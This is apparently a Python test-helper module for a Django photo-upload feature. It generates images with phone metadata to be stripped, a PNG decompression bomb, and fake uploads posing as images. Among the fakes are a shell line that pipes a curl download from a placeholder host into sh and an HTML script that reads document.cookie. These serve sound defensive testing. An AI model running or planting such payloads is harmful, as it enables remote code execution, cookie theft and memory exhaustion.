"""Photos for tests, made with Pillow: real images (with the metadata a phone writes), and
files that only pretend to be images. (Each test's own storage is the ``media`` fixture of
``tests/conftest.py``.)

A plain module like ``tests.helpers``: the order, web and API tests import what they use.
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

RED = (220, 20, 20)
BLUE = (20, 20, 220)
# What a phone writes into a photo and the stored file must not keep.
GPS = {1: "N", 2: (30.0, 0.0, 36.0), 3: "E", 4: (110.0, 0.0, 36.0)}
MAKER = "PhoneMaker"
COMMENT = b"taken at Grandma Li's house"
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
    b'02/22-rdf-syntax-ns#"><rdf:Description>secret place</rdf:Description></rdf:RDF>'
    b"</x:xmpmeta>"
)


def two_colours(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """Red on the left half, blue on the right: which way is up shows after a rotation."""
    width, height = size
    image = Image.new(mode, size, BLUE if mode == "RGB" else (*BLUE, 255))
    image.paste(RED if mode == "RGB" else (*RED, 255), (0, 0, width // 2, height))
    return image


def phone_jpeg(size: tuple[int, int] = (64, 32), *, orientation: int = 6) -> bytes:
    """A JPEG as a phone writes it: sideways pixels with an EXIF orientation, the GPS
    position, the camera maker, a comment and XMP."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = MAKER
    exif.get_ifd(0x8825).update(GPS)
    out = io.BytesIO()
    two_colours(size).save(out, format="JPEG", exif=exif, comment=COMMENT, xmp=XMP, quality=95)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), *, alpha: bool = False) -> bytes:
    out = io.BytesIO()
    two_colours(size, "RGBA" if alpha else "RGB").save(out, format="PNG")
    return out.getvalue()


def webp(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    two_colours(size).save(out, format="WEBP", quality=90)
    return out.getvalue()


def gif(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    two_colours(size).save(out, format="GIF")
    return out.getvalue()


def noisy_jpeg(size: tuple[int, int] = (400, 300)) -> bytes:
    """A JPEG that does not compress to almost nothing (random pixels)."""
    out = io.BytesIO()
    Image.frombytes("RGB", size, bytes(range(256)) * (size[0] * size[1] * 3 // 256 + 1)).save(
        out, format="JPEG", quality=95
    )
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 100_000) -> bytes:
    """A few hundred bytes of PNG that declare a ``side``×``side`` image (a decompression
    bomb: decoding it would take ``side``² bytes of memory)."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + _chunk(b"IEND", b"")
    )


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<html><script>alert(document.cookie)</script></html>"


def upload(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg") -> Any:
    """An uploaded file as a form or the API receives it: the name and Content-Type are
    whatever the sender says."""
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_files(root: Path) -> list[str]:
    """Every file in the test's storage, by its path under the storage's root."""
    if not root.exists():
        return []
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
